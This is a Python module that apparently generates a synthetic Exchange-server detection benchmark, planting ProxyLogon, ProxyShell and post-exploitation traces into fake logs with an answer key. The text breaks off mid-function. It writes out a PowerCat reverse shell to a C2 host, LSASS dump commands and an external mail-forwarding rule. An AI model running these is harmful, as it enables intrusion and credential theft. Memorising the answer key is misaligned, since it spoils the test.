"""Planted attack traces, family by family, each recorded in the answer key.

Every planted line gets a trace entry with the rule id expected to find it. `required: true` marks
the traces the task defines; `required: false` marks further lines the same rule may reasonably
match (e.g. the cmd.exe parent of a procdump run also names lsass).
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date, datetime

from . import files as fl
from . import theft
from . import winevents as we
from .benign import Population, pool_pid
from .formats import OAB_FIELDS, Ref, csv_row_from
from .model import (
    C2_IP,
    DAY_MS,
    DOMAIN_SID,
    HOUR_MS,
    INSTALL_DIR,
    NETBIOS,
    OWASSRF_IP,
    OWASSRF_UA,
    PL_EXPLOIT_IP,
    PL_SHELL_IP,
    PNS_IP,
    PS_IP,
    iso,
    to_ms,
)
from .planter import Planter
from .rows import Refs, Req, ecp_lines, emit
from .world import Schedule, World

FAMILIES = ("proxylogon", "proxyshell", "proxynotshell", "owassrf", "postexploit", "webshells")
PREFIX = {
    "proxylogon": "pl", "proxyshell": "ps", "proxynotshell": "pns", "owassrf": "owa",
    "postexploit": "px", "webshells": "ws",
}  # fmt: skip
PY_UA = "python-requests/2.25.1"
EWSC_UA = "ExchangeServicesClient/0.0.0.0"
SHELL_UA = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/65.0.2345 Safari/537.36"
)
MAGIC_A = "1942062522"
ADMIN_RID = 500
PL_START_OFFSET_MS = 4 * HOUR_MS + 11 * 60_000 + 58_214  # first ProxyLogon request after its day starts


def chopper_cmd(cwd: str, inner: str) -> str:
    """The cmd.exe line a China Chopper-style shell runs: change folder, run, print markers."""
    return f'"cmd" /c cd /d "{cwd}"&{inner}&echo [S]&cd&echo [E]'


@dataclass(frozen=True)
class _Step:
    """One request of the ProxyLogon SSRF chain."""

    dt: int
    anchor_path: str
    be_stem: str
    be_query: str
    ua: str
    status: int
    what: str
    traced: bool = True
    be_required: bool = False
    ecp: tuple[str, ...] = ()
    ecp_url: str = ""
    hook: Callable[[int, Refs], None] | None = None


class Attacks(Planter):
    """Schedules the planted traces of the chosen families."""

    def __init__(self, world: World, rng: random.Random, pop: Population, sched: Schedule, families: frozenset[str]):
        super().__init__(world, rng, pop, sched)
        self.families = families
        self.counters: dict[str, int] = {}
        self.canary = self.ids.hexstr(43) + "." + self.ids.hexstr(20)
        self.machine = f"{NETBIOS}\\{world.host}$"
        self.admin_nt = f"{NETBIOS}\\Administrator"
        self.admin_sid = f"{DOMAIN_SID}-{ADMIN_RID}"
        self.vdir_guid = self.ids.guid()

    # ---- bookkeeping -------------------------------------------------------------------------
    def trace(
        self,
        ref: Ref | None,
        family: str,
        rule: str,
        t: int,
        marker: str,
        desc: str,
        *,
        required: bool = True,
        path: str | None = None,
        also: tuple[Ref | None, ...] = (),
    ) -> None:
        """Record a planted trace; `also` names the same request's rows in the other web logs."""
        short = rule.split("-", 1)[1] if rule.startswith(family) else rule
        n = self.counters.get(f"{family}:{short}", 0) + 1
        self.counters[f"{family}:{short}"] = n
        data = {
            "id": f"{PREFIX[family]}-{short}-{n}",
            "family": family,
            "rule": rule,
            "time": iso(t),
            "marker": marker,
            "description": desc,
            "required": required,
        }
        if ref is None:
            data.update(path=path, line=None)
        elif ref.path.endswith(".ndjson"):
            data["marker"] = json.dumps(marker)[1:-1]  # as it appears inside the JSON line
        self.w.key.trace(ref, also, **data)

    def at(self, t: int, fn: Callable[[], None]) -> None:
        self.sched.at(t, fn)

    def _req(self, t: int, req: Req) -> Refs:
        return emit(self.w, self.rng, t, req, self.ids.guid())

    def _file(
        self,
        family: str,
        rel_under_host: str,
        data: bytes | str,
        t: int,
        rule: str,
        marker: str,
        desc: str,
        *,
        required: bool = True,
    ) -> None:
        rel = fl.write_planted(self.w.root, f"{self.w.host}/{rel_under_host}", data, t)
        self.trace(None, family, rule, t, marker, desc, required=required, path=rel)

    # ---- days ----------------------------------------------------------------------------------
    def plan(self, attack_start: datetime | None = None) -> None:
        tl = self.tl
        p = tl.day_of(date(2021, 3, 3), 2)
        if attack_start is not None:  # the first ProxyLogon request at exactly that moment
            p = to_ms(attack_start) - PL_START_OFFSET_MS
        day = {
            "proxylogon": p,
            "postexploit": tl.clamp_day(p + 2 * DAY_MS),
            "proxyshell": tl.clamp_day(p + 3 * DAY_MS),
            "proxynotshell": tl.clamp_day(p + 4 * DAY_MS),
            "webshells": tl.clamp_day(p + 4 * DAY_MS),
            "owassrf": tl.clamp_day(p + 5 * DAY_MS),
        }
        for fam in FAMILIES:
            if fam in self.families:
                getattr(self, "_" + fam)(day[fam])

    # ---- ProxyLogon (HAFNIUM chain, research notes §2.1) ----------------------------------------
    def _ssrf(
        self,
        t: int,
        *,
        stem: str,
        anchor: str,
        be_stem: str,
        be_query: str,
        ua: str,
        status: int = 200,
        cookie: str = "",
        ip: str = PL_EXPLOIT_IP,
        soap: str | None = None,
        ews_extra: dict | None = None,
        lat: str = "normal",
    ) -> Refs:
        req = Req(
            "POST",
            stem,
            "",
            ip,
            ua,
            "",
            status=status,
            proto="Ecp",
            anchor=anchor,
            hint="X-BEResource-Cookie",
            cookie=cookie,
            be_stem=be_stem,
            be_query=be_query,
            be_user=self.machine,
            be_status=status,
            soap=soap,
            ews_user=f"{self.w.host}$@corp.example",
            ews_extra=ews_extra or {},
            lat=lat,
        )
        return self._req(t, req)

    def _trace_ssrf(self, refs: Refs, fam: str, t: int, anchor_traced: bool, what: str, *, be_required: bool) -> None:
        self.trace(refs.fe, fam, "proxylogon-ecp-js-post", t, "POST /ecp/", f"{what}: front-end POST to a fake .js",
                   also=(refs.hp,))  # fmt: skip
        if anchor_traced:
            self.trace(refs.hp, fam, "proxylogon-ssrf-anchor", t, "ServerInfo~", f"{what}: SSRF anchor")
        self.trace(
            refs.be,
            fam,
            "ssrf-machine-account-backend",
            t,
            f"{self.w.host}$",
            f"{what}: back end reached as the machine account",
            required=be_required,
        )

    def _ecp(self, t: int, cmd: str, url: str, took: int) -> Ref:
        """One ECP request in the ECP Server and Activity logs; returns the server-log line."""
        ids = self.ids
        server, _ = ecp_lines(
            self.w, t, cmd=cmd, url=url, reqid=ids.guid(), actid=ids.guid(), sid=ids.guid(), usid=ids.guid(), took=took
        )
        return server

    def _proxylogon(self, d: int) -> None:
        t0 = d + PL_START_OFFSET_MS
        self._pl_chain(t0)
        t_cookie, t_um, t_oab = t0 + 21_377, t0 + 161_300, t0 + 487_004
        self.at(t_cookie, lambda: self._pl_cookie_row(t_cookie))
        self.at(t_um, lambda: self._pl_um(t_um))
        self.at(t_oab, lambda: self._pl_oab(t_oab))
        self._proxylogon_shell_use(d)

    def _pl_chain(self, t0: int) -> None:
        """The SSRF chain in HttpProxy\\Ecp as HelseCERT logged it (research notes §2.1)."""
        ddi = "/ecp/DDI/DDIService.svc"
        c = self.canary
        oab = f"schema=OABVirtualDirectory&msExchEcpCanary={c}"
        reset = f"schema=ResetOABVirtualDirectory&msExchEcpCanary={c}"
        vd = self.vdir_guid
        steps = [
            _Step(0, "/autodiscover/autodiscover.xml?", "/autodiscover/autodiscover.xml", "", EWSC_UA, 200,
                  "autodiscover LegacyDN lookup (anchor excluded by Test-ProxyLogon)", traced=False),
            _Step(3_201, "/mapi/emsmdb/?", "/mapi/emsmdb/", "", PY_UA, 200, "MAPI SID lookup"),
            _Step(4_902, "/ecp/proxyLogon.ecp?", "/ecp/proxyLogon.ecp", "", PY_UA, 241, "ECP session via proxyLogon.ecp",
                  ecp=(f"Get-MailboxRegionalConfiguration.Identity='{self.admin_sid}'",), ecp_url="/ecp/proxyLogon.ecp"),
            _Step(7_712, f"{ddi}/GetObject?msExchEcpCanary={c}&schema=OABVirtualDirectory", f"{ddi}/GetObject", oab,
                  PY_UA, 200, "DDI GetObject OABVirtualDirectory", ecp=(f"Get-OabVirtualDirectory.Identity='{vd}'",),
                  ecp_url=f"{ddi}/GetObject?schema=OABVirtualDirectory"),
            _Step(11_104, f"{ddi}/SetObject?msExchEcpCanary={c}&schema=OABVirtualDirectory", f"{ddi}/SetObject", oab,
                  PY_UA, 200, "DDI SetObject OABVirtualDirectory (script in ExternalUrl)", hook=self._pl_script_set),
            _Step(14_800, f"{ddi}/SetObject?msExchEcpCanary={c}&schema=ResetOABVirtualDirectory", f"{ddi}/SetObject",
                  reset, PY_UA, 200, "DDI SetObject ResetOABVirtualDirectory", be_required=True,
                  ecp=(f"Remove-OabVirtualDirectory.Identity='{vd}'.Confirm='False'",
                       "New-OabVirtualDirectory.WebSiteName='Default Web Site'.Role='ClientAccess'"),
                  ecp_url=f"{ddi}/SetObject?schema=ResetOABVirtualDirectory", hook=self._pl_reset),
            _Step(18_210, f"{ddi}/SetObject?msExchEcpCanary={c}&schema=OABVirtualDirectory", f"{ddi}/SetObject", oab,
                  PY_UA, 200, "DDI SetObject OABVirtualDirectory (ExternalUrl cleared)",
                  ecp=(f"Set-OabVirtualDirectory.ExternalUrl=$null.Identity='{vd}'",),
                  ecp_url=f"{ddi}/SetObject?schema=OABVirtualDirectory"),
        ]  # fmt: skip
        for st in steps:
            t = t0 + st.dt
            self.at(t, lambda t=t, st=st: self._pl_step(t, st))

    def _pl_step(self, t: int, st: _Step) -> None:
        anchor = f"ServerInfo~a]@{self.w.fqdn}:444{st.anchor_path}#"
        refs = self._ssrf(
            t, stem="/ecp/y.js", anchor=anchor, be_stem=st.be_stem, be_query=st.be_query, ua=st.ua, status=st.status
        )
        self._trace_ssrf(refs, "proxylogon", t, st.traced, st.what, be_required=st.be_required)
        for i, cmd in enumerate(st.ecp):
            self._ecp(t + 30 + i * 180, cmd, st.ecp_url, took=90 + 200 * i)
        if st.hook is not None:
            st.hook(t, refs)

    def _pl_script_set(self, t: int, refs: Refs) -> None:
        """CVE-2021-27065 step 1: the script lands in the OAB ExternalUrl (ECP log + cmdlet event)."""
        fam = "proxylogon"
        script = fl.SCRIPT_SHELL
        cmd = f"Set-OabVirtualDirectory.ExternalUrl='http://f/{script}'.Identity='{self.vdir_guid}'"
        server = self._ecp(t + 25, cmd, "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory", took=1460)
        marker = 'S:CMD=Set-OabVirtualDirectory.ExternalUrl=\'http://f/<script language=""JScript""'
        self.trace(server, fam, "proxylogon-vdir-script-ecp", t + 25, marker,
                   "ECP server log: script written into the OAB ExternalUrl (CVE-2021-27065)")  # fmt: skip
        params = f'-Identity "{self.vdir_guid}" -ExternalUrl "http://f/{script}"'
        ev = self.w.event(
            "msexchange-management",
            t + 60,
            we.cmdlet(t + 60, name="Set-OabVirtualDirectory", params=params, caller=self.admin_nt,
                      caller_sid=self.admin_sid, app="ECP", pid=pool_pid("MSExchangeECPAppPool", False)),
            ref=True,
        )  # fmt: skip
        self.trace(ev, fam, "cmdlet-vdir-script", t + 60, "Page_Load(){eval(Request[",
                   "MSExchange Management event 1: Set-OabVirtualDirectory with a script in ExternalUrl")  # fmt: skip

    def _pl_reset(self, t: int, refs: Refs) -> None:
        """CVE-2021-27065 step 2: the reset exports the settings (with the script) into owa\\auth."""
        fam = "proxylogon"
        w = self.w
        self.trace(refs.hp, fam, "proxylogon-vdir-reset", t, "schema=ResetOABVirtualDirectory#",
                   "HttpProxy: SSRF to ResetOABVirtualDirectory answered 200 (CVE-2021-27065)")  # fmt: skip
        target = f"{INSTALL_DIR}\\FrontEnd\\HttpProxy\\owa\\auth\\RedirSuiteServerProxy.aspx"
        pid = pool_pid("MSExchangeECPAppPool", False)
        ev = w.event(
            "sysmon", t + 150, we.sysmon_file(t + 150, self.ids, image=we.W3WP, pid=pid, target=target), ref=True
        )
        self.trace(ev, fam, "file-event-webshell-write", t + 150, "RedirSuiteServerProxy.aspx",
                   "Sysmon 11: ECP worker writes the OAB settings dump into owa\\auth", required=False)  # fmt: skip
        dump = fl.oab_vdir_dump(w.host, w.fqdn, self.vdir_guid, "3/3/2021 4:12:09 AM")
        self._file(fam, f"{fl.OWA_AUTH}/RedirSuiteServerProxy.aspx", dump, t + 150, "file-webshell-location",
                   "ExternalUrl", "OAB virtual-directory dump with a JScript eval block in owa\\auth (HAFNIUM web shell)")  # fmt: skip

    def _pl_cookie_row(self, t: int) -> None:
        """An SSRF visible only in BackEndCookie (Microsoft's `Server~*/*~*` query)."""
        fam = "proxylogon"
        w = self.w
        cookie = f"Server~{w.fqdn}/ews/exchange.asmx?a=~{MAGIC_A}~{iso(t + 600_000)[:19]}"
        refs = self._ssrf(t, stem="/ecp/y.js", anchor="", be_stem="/EWS/Exchange.asmx", be_query="", ua=PY_UA,
                          cookie=cookie)  # fmt: skip
        self.trace(refs.hp, fam, "proxylogon-ssrf-cookie", t, f"Server~{w.fqdn}/ews/exchange.asmx?a=~",
                   "HttpProxy: SSRF shows only in BackEndCookie (slash inside the server part)")  # fmt: skip
        self._trace_ssrf(refs, fam, t, False, "cookie-routed SSRF", be_required=False)

    def _pl_um(self, t: int) -> None:
        """CVE-2021-26857: the UM worker fails to deserialize the attacker's object."""
        msg = (
            "An unhandled exception occurred in a UM worker process: System.InvalidCastException: Unable to "
            "cast object of type 'System.Windows.Data.ObjectDataProvider' to type "
            "'Microsoft.Exchange.UM.UMCore.PipelineContext'.\n   at Microsoft.Exchange.UM.UMCore."
            "PipelineContext.Deserialize(Byte[] data)\n   at Microsoft.Exchange.UM.UMCore.VoiceMessagePipeline"
            "Context..ctor(SerializationInfo info, StreamingContext context)"
        )
        ev = we.app_event("MSExchange Unified Messaging", 1040, "error", msg, "UMWorkerProcess.exe",
                          "System.InvalidCastException", task="UMWorkerProcess")  # fmt: skip
        ref = self.w.event("application", t, ev, ref=True)
        self.trace(ref, "proxylogon", "proxylogon-um-deserialization", t, "System.InvalidCastException",
                   "Application error from MSExchange Unified Messaging (CVE-2021-26857)")  # fmt: skip

    def _pl_oab(self, t: int) -> None:
        """CVE-2021-26858: the OAB generator writes a file outside ClientAccess\\OAB."""
        fam = "proxylogon"
        w = self.w
        path = "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\xx.aspx"
        msg = f"Download failed and temporary file '{path}' needs to be removed."
        row = {"date-time": iso(t), "server-name": w.host, "process-id": "4452", "thread-id": "61",
               "severity": "Error", "oab-name": "\\Default Offline Address Book", "message": msg}  # fmt: skip
        ref = w.oab(t).insert(t, csv_row_from(OAB_FIELDS, row))
        self.trace(ref, fam, "proxylogon-oab-file-write", t,
                   f"Download failed and temporary file '{path}' needs to be removed",
                   "OAB generator wrote outside ClientAccess\\OAB (CVE-2021-26858)")  # fmt: skip
        self._file(fam, f"{fl.ASPNET_CLIENT}/system_web/xx.aspx", fl.CHOPPER, t, "file-webshell-location",
                   "eval(Request.Item[", "China Chopper one-liner in aspnet_client\\system_web")  # fmt: skip

    def _shell_post(
        self, t: int, fam: str, stem: str, *, required: bool = True, ua: str = SHELL_UA, ip: str = PL_SHELL_IP
    ) -> None:
        owa = stem.startswith("/owa/")
        req = Req("POST", stem, "", ip, ua, "", proto="Owa" if owa else None, cafe=owa, lat="normal")
        refs = self._req(t, req)
        self.trace(
            refs.fe,
            fam,
            "webshell-access",
            t,
            f"POST {stem}",
            f"web shell {stem} used from {ip}",
            required=required,
            also=(refs.hp,),  # an OWA path passes the HttpProxy module; /aspnet_client/ is plain IIS
        )

    def _shell_cmd(
        self,
        t: int,
        fam: str,
        pool: str,
        inner: str,
        *,
        required: bool,
        extra: tuple[str, ...] = (),
        cwd: str = "C:\\Windows\\System32\\inetsrv\\",
        with_4688: bool = False,
    ) -> int:
        """w3wp (pool) -> cmd.exe /c <inner>; returns the cmd.exe pid."""
        w3 = pool_pid(pool, self.tl.build_switch is not None and t >= self.tl.build_switch)
        pid = 6000 + self.rng.randrange(2000) * 4
        cmd = chopper_cmd(cwd, inner)
        ev = self.w.event(
            "sysmon",
            t,
            we.sysmon_process(
                t,
                self.ids,
                image=we.CMD,
                cmd=cmd,
                parent_image=we.W3WP,
                parent_cmd=we.w3wp_cmdline(pool),
                pid=pid,
                ppid=w3,
                cwd=cwd,
                description="Windows Command Processor",
            ),
            ref=True,
        )
        self.trace(
            ev,
            fam,
            "process-webserver-shell",
            t,
            "w3wp.exe",
            f"w3wp ({pool}) spawns cmd.exe: {inner}",
            required=required,
        )
        for rule in extra:
            self.trace(ev, fam, rule, t, inner.split()[0], f"cmd.exe command line: {inner}", required=False)
        if with_4688:
            ev2 = self.w.event(
                "security",
                t + 3,
                we.security_4688(
                    t + 3, image=we.CMD, cmd=cmd, parent_image=we.W3WP, pid=pid, ppid=w3, host=self.w.host
                ),
                ref=True,
            )
            self.trace(
                ev2,
                fam,
                "process-webserver-shell",
                t + 3,
                "w3wp.exe",
                "Security 4688: w3wp spawns cmd.exe",
                required=False,
            )
        return pid

    def _child(
        self,
        t: int,
        fam: str,
        image: str,
        cmd: str,
        ppid: int,
        parent_cmd: str,
        rule: str,
        marker: str,
        desc: str,
        *,
        cwd: str = "C:\\Windows\\System32\\inetsrv\\",
        parent_image: str = we.CMD,
        extra: tuple[str, ...] = (),
        product: str = "-",
        company: str = "-",
    ) -> None:
        pid = 6000 + self.rng.randrange(2000) * 4
        ev = self.w.event(
            "sysmon",
            t,
            we.sysmon_process(
                t,
                self.ids,
                image=image,
                cmd=cmd,
                parent_image=parent_image,
                parent_cmd=parent_cmd,
                pid=pid,
                ppid=ppid,
                cwd=cwd,
                product=product,
                company=company,
            ),
            ref=True,
        )
        self.trace(ev, fam, rule, t, marker, desc)
        for r in extra:
            self.trace(ev, fam, r, t, marker, desc, required=False)

    def _proxylogon_shell_use(self, d: int) -> None:
        fam = "proxylogon"
        tl = self.tl
        owa_pool = "MSExchangeOWAAppPool"
        t1 = d + 22 * HOUR_MS + 41 * 60_000 + 7_310
        shell = "/owa/auth/RedirSuiteServerProxy.aspx"
        auth_dir = f"{INSTALL_DIR}\\FrontEnd\\HttpProxy\\owa\\auth"
        for i, inner in enumerate(("whoami", "ipconfig /all", 'net group "Exchange Trusted Subsystem" /domain')):
            t = t1 + i * 23_000

            def run(t: int = t, inner: str = inner, first: bool = i == 0) -> None:
                self._shell_post(t, fam, shell)
                self._shell_cmd(t + 180, fam, owa_pool, inner, required=first, cwd=auth_dir, with_4688=first)

            self.at(t, run)
        # The next night if the period has it, else late the same night.
        base = d + DAY_MS + 51 * 60_000 if d + DAY_MS < tl.t_end else d + 23 * HOUR_MS
        chopper = "/aspnet_client/system_web/xx.aspx"

        def run_xx() -> None:
            self._shell_post(base, fam, chopper)
            self._shell_cmd(
                base + 150,
                fam,
                "DefaultAppPool",
                "whoami",
                required=False,
                cwd="C:\\inetpub\\wwwroot\\aspnet_client\\system_web",
            )

        self.at(base, run_xx)
        t_pd = base + 14 * 60_000

        def procdump() -> None:
            self._shell_post(t_pd, fam, shell)
            inner = "C:\\root\\procdump64.exe -accepteula -ma lsass.exe C:\\root\\lsass.dmp"
            cpid = self._shell_cmd(
                t_pd + 200, fam, owa_pool, inner, required=False, cwd=auth_dir, extra=("process-lsass-dump",)
            )
            self._child(
                t_pd + 260,
                fam,
                "C:\\root\\procdump64.exe",
                "C:\\root\\procdump64.exe  -accepteula -ma lsass.exe C:\\root\\lsass.dmp",
                cpid,
                chopper_cmd(auth_dir, inner),
                "process-lsass-dump",
                "-ma lsass.exe",
                "ProcDump writes a full LSASS dump to C:\\root",
                cwd=auth_dir,
                product="ProcDump",
                company="Sysinternals - www.sysinternals.com",
            )
            self._file(
                fam,
                "C/root/lsass.dmp",
                fl.minidump(7),
                t_pd + 9_400,
                "context-lsass-dump-file",
                "MDMP",
                "LSASS minidump left in C:\\root",
            )

        self.at(t_pd, procdump)
        t_cs = base + 19 * 60_000

        def comsvcs() -> None:
            self._shell_post(t_cs, fam, shell)
            inner = (
                "C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 "
                "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\l.dmp full"
            )
            cpid = self._shell_cmd(
                t_cs + 170, fam, owa_pool, inner, required=False, cwd=auth_dir, extra=("process-lsass-dump",)
            )
            self._child(
                t_cs + 230,
                fam,
                "C:\\Windows\\System32\\rundll32.exe",
                inner,
                cpid,
                chopper_cmd(auth_dir, inner),
                "process-lsass-dump",
                "comsvcs.dll, MiniDump",
                "LSASS dump via comsvcs.dll MiniDump into the web root",
                cwd=auth_dir,
                product="Microsoft® Windows® Operating System",
                company="Microsoft Corporation",
            )

        self.at(t_cs, comsvcs)
        t_7z = base + 31 * 60_000

        def seven() -> None:
            self._shell_post(t_7z, fam, shell)
            inner = "C:\\ProgramData\\7z.exe a -t7z C:\\ProgramData\\it.zip C:\\ProgramData\\pst"
            cpid = self._shell_cmd(
                t_7z + 190, fam, owa_pool, inner, required=False, cwd=auth_dir, extra=("process-archive-staging",)
            )
            self._child(
                t_7z + 240,
                fam,
                "C:\\ProgramData\\7z.exe",
                inner,
                cpid,
                chopper_cmd(auth_dir, inner),
                "process-archive-staging",
                "-t7z C:\\ProgramData\\it.zip",
                "7-Zip stages exported mailboxes in C:\\ProgramData",
                cwd=auth_dir,
                product="7-Zip",
                company="Igor Pavlov",
            )
            self._file(
                fam,
                "C/ProgramData/it.zip",
                fl.staging_zip(t_7z + 61_000),
                t_7z + 61_000,
                "context-staging-archive",
                "PK",
                "staging archive C:\\ProgramData\\it.zip",
            )

        self.at(t_7z, seven)
        self._ews_theft(base + 40 * 60_000)

    def _ews_theft(self, t0: int) -> None:
        """Mailbox theft over the SSRF into EWS (research notes §4)."""
        fam = "proxylogon"
        w = self.w
        exec_u = self.pop.exec_user
        anchor = f"ServerInfo~{w.fqdn}/EWS/Exchange.asmx?a=~{MAGIC_A}#"
        ops = [("autodiscover", None), ("GetFolder", "inbox"), ("FindItem", "inbox")]
        ops += [("GetItem", "inbox")] * 6 + [("GetFolder", "contacts"), ("FindItem", "contacts")]
        t = t0
        for op, folder in ops:
            t += self.rng.randint(1_200, 6_500)

            def run(t: int = t, op: str = op, folder: str | None = folder) -> None:
                if op == "autodiscover":
                    refs = self._ssrf(
                        t,
                        stem="/ecp/xo.js",
                        anchor=f"ServerInfo~{w.fqdn}/autodiscover/autodiscover.xml?a=~{MAGIC_A}#",
                        be_stem="/autodiscover/autodiscover.xml",
                        be_query=f"a=~{MAGIC_A}",
                        ua=EWSC_UA,
                    )
                    self._trace_ssrf(refs, fam, t, False, "EWS theft: autodiscover", be_required=False)
                    return
                size = str(self.rng.randint(40_000, 2_400_000) if op == "GetItem" else self.rng.randint(900, 30_000))
                extra = {
                    "ActAsUser": exec_u.upn,
                    "ResponseSize": size,
                    "LocalMailboxCount": "1",
                    "GenericInfo": f"SoapAction_0={op};MailboxTarget={exec_u.upn};DistinguishedFolderId={folder};",
                }
                refs = self._ssrf(
                    t,
                    stem="/ecp/xo.js",
                    anchor=anchor,
                    be_stem="/EWS/Exchange.asmx",
                    be_query="",
                    ua=EWSC_UA,
                    soap=op,
                    ews_extra=extra,
                    lat="slow" if op == "GetItem" else "normal",
                )
                self._trace_ssrf(refs, fam, t, True, f"EWS theft: {op} {folder}", be_required=True)
                theft.record(w, exec_u.upn, "ssrf-ews", f"{w.host}$@corp.example", PL_EXPLOIT_IP, t, op,
                             items=int(op == "GetItem"), nbytes=int(size))  # fmt: skip
                self.trace(
                    refs.ews,
                    fam,
                    "ews-ssrf-mailbox-access",
                    t,
                    op,
                    f"EWS {op} on {exec_u.upn} ({folder}) by the machine account via SSRF",
                )

            self.at(t, run)

    # ---- post-exploitation -----------------------------------------------------------------------
    def _postexploit(self, d: int) -> None:
        fam = "postexploit"
        w = self.w
        pool = "MSExchangeOWAAppPool"
        t0 = d + 2 * HOUR_MS + 6 * 60_000 + 1_337
        after = self.tl.build_switch is not None and t0 >= self.tl.build_switch
        w3 = pool_pid(pool, after)
        parent = we.w3wp_cmdline(pool)
        procs = [
            (
                0,
                we.POWERSHELL,
                "powershell -c IEX (New-Object System.Net.Webclient).DownloadString('https://raw.githubusercontent.com/"
                f"besimorhino/powercat/master/powercat.ps1'); powercat -c {C2_IP} -p 443 -e powershell",
                "process-powercat-nishang",
                "powercat.ps1'); powercat -c",
                "PowerCat reverse shell to the C2",
            ),
            (
                95_000,
                we.POWERSHELL,
                "powershell -c Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; Get-Mailbox -ResultSize "
                "Unlimited | Select-Object PrimarySmtpAddress",
                "process-exchange-snapin",
                "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn",
                "Exchange snap-in loaded from a web shell",
            ),
            (
                410_000,
                "C:\\Windows\\System32\\makecab.exe",
                "makecab.exe C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\l.dmp "
                "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\l.dmp.zip",
                "process-archive-staging",
                ".dmp.zip",
                "makecab compresses a dump in the web root",
            ),
        ]
        for dt, image, cmd, rule, marker, desc in procs:
            t = t0 + dt

            def run(
                t: int = t, image: str = image, cmd: str = cmd, rule: str = rule, marker: str = marker, desc: str = desc
            ) -> None:
                self._child(
                    t,
                    fam,
                    image,
                    cmd,
                    w3,
                    parent,
                    rule,
                    marker,
                    desc,
                    parent_image=we.W3WP,
                    extra=("process-webserver-shell",),
                    product="Microsoft® Windows® Operating System",
                    company="Microsoft Corporation",
                )

            self.at(t, run)
        t_file = t0 + 600_000

        def drop() -> None:
            target = f"{INSTALL_DIR}\\FrontEnd\\HttpProxy\\owa\\auth\\errorEEE.aspx"
            ev = w.event(
                "sysmon", t_file, we.sysmon_file(t_file, self.ids, image=we.W3WP, pid=w3, target=target), ref=True
            )
            self.trace(
                ev,
                fam,
                "file-event-webshell-write",
                t_file,
                "errorEEE.aspx",
                "Sysmon 11: OWA worker process writes an .aspx into owa\\auth",
            )

        self.at(t_file, drop)
        cmdlets = [
            (
                700_000,
                "New-ExchangeCertificate",
                '-GenerateRequest "True" -BinaryEncoded "True" -SubjectName "CN=mail" -RequestFile '
                '"\\\\localhost\\C$\\inetpub\\wwwroot\\aspnet_client\\cert.aspx"',
                "cmdlet-cert-request-webpath",
                "aspnet_client\\cert.aspx",
                "certificate request written into the web root",
            ),
            (
                760_000,
                "Install-TransportAgent",
                '-Name "Security Interop Agent" -TransportAgentFactory "Microsoft.Exchange.Security.Interop.'
                'SecurityInteropAgentFactory" -AssemblyPath "C:\\ProgramData\\VSPerfMon\\SecurityInterop.dll"',
                "cmdlet-transport-agent",
                "Install-TransportAgent",
                "transport agent installed from ProgramData",
            ),
            (
                830_000,
                "New-InboxRule",
                f'-Mailbox "{self.pop.exec_user.sam}" -Name "." -ForwardTo "mailsync-archive@example.net" '
                '-MarkAsRead "True" -StopProcessingRules "True"',
                "cmdlet-mailbox-access-change",
                "-ForwardTo",
                "inbox rule forwarding the executive's mail outside",
            ),
        ]
        for dt, name, params, rule, marker, desc in cmdlets:
            t = t0 + dt

            def run_c(
                t: int = t,
                name: str = name,
                params: str = params,
                rule: str = rule,
                marker: str = marker,
                desc: str = desc,
            ) -> None:
                ev = w.event(
                    "msexchange-management",
                    t,
                    we.cmdlet(
                        t,
                        name=name,
                        params=params,
                        caller="NT AUTHORITY\\SYSTEM",
                        caller_sid="S-1-5-18",
                        app="EMS",
                        pid=w3 + 1240,
                    ),
                    ref=True,
                )
                self.trace(ev, fam, rule, t, marker, desc)
                if name == "New-InboxRule":  # the mailbox theft ledger (synth/theft.py)
                    theft.record(w, self.pop.exec_user.upn, "forwarding", "mailsync-archive@example.net", "", t, name)

            self.at(t, run_c)
        t_clr = t0 + 1_540_000

        def clear() -> None:
            ev = w.event("security", t_clr, we.security_1102(t_clr, user="Administrator", rid=ADMIN_RID), ref=True)
            self.trace(ev, fam, "log-cleared", t_clr, "LogFileCleared", "Security log cleared")

        self.at(t_clr, clear)

    # ---- ProxyShell ------------------------------------------------------------------------------
    def _proxyshell(self, d: int) -> None:
        fam = "proxyshell"
        w = self.w
        ua = "python-requests/2.26.0"
        email = "&Email=autodiscover/autodiscover.json%3F@evil.corp"
        cat = "VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBlBZG1pbmlzdHJhdG9yQGNvcnAuZXhhbXBsZVUsUy0xLTUtMjEtMzYy"
        t0 = d + 10 * HOUR_MS + 2 * 60_000 + 14_552
        reqs = [
            (0, "GET", "@evil.corp/mapi/nspi/?" + email, "/mapi/nspi/", 200, "proxyshell-autodiscover-success"),
            (
                9_300,
                "POST",
                f"@evil.corp/powershell/?X-Rps-CAT={cat}x" + email,
                "/powershell",
                401,
                "proxyshell-autodiscover-attempt",
            ),
            (
                12_800,
                "POST",
                f"@evil.corp/powershell/?X-Rps-CAT={cat}y" + email,
                "/powershell",
                401,
                "proxyshell-autodiscover-attempt",
            ),
            (
                31_000,
                "POST",
                f"@evil.corp/powershell/?X-Rps-CAT={cat}" + email,
                "/powershell",
                200,
                "proxyshell-autodiscover-success",
            ),
            (
                33_400,
                "POST",
                f"@evil.corp/powershell/?X-Rps-CAT={cat}" + email,
                "/powershell",
                200,
                "proxyshell-autodiscover-success",
            ),
            (
                36_900,
                "POST",
                f"@evil.corp/powershell/?X-Rps-CAT={cat}" + email,
                "/powershell",
                200,
                "proxyshell-autodiscover-success",
            ),
        ]
        for dt, method, query, be_stem, status, rule in reqs:
            t = t0 + dt

            def run(
                t: int = t,
                method: str = method,
                query: str = query,
                be_stem: str = be_stem,
                status: int = status,
                rule: str = rule,
            ) -> None:
                ps = be_stem == "/powershell"
                be_user = self.admin_nt if ps else self.machine
                req = Req(
                    method,
                    "/autodiscover/autodiscover.json",
                    query,
                    PS_IP,
                    ua,
                    "",
                    status=status,
                    proto="Autodiscover",
                    hint="",
                    be_stem=be_stem if status == 200 else None,
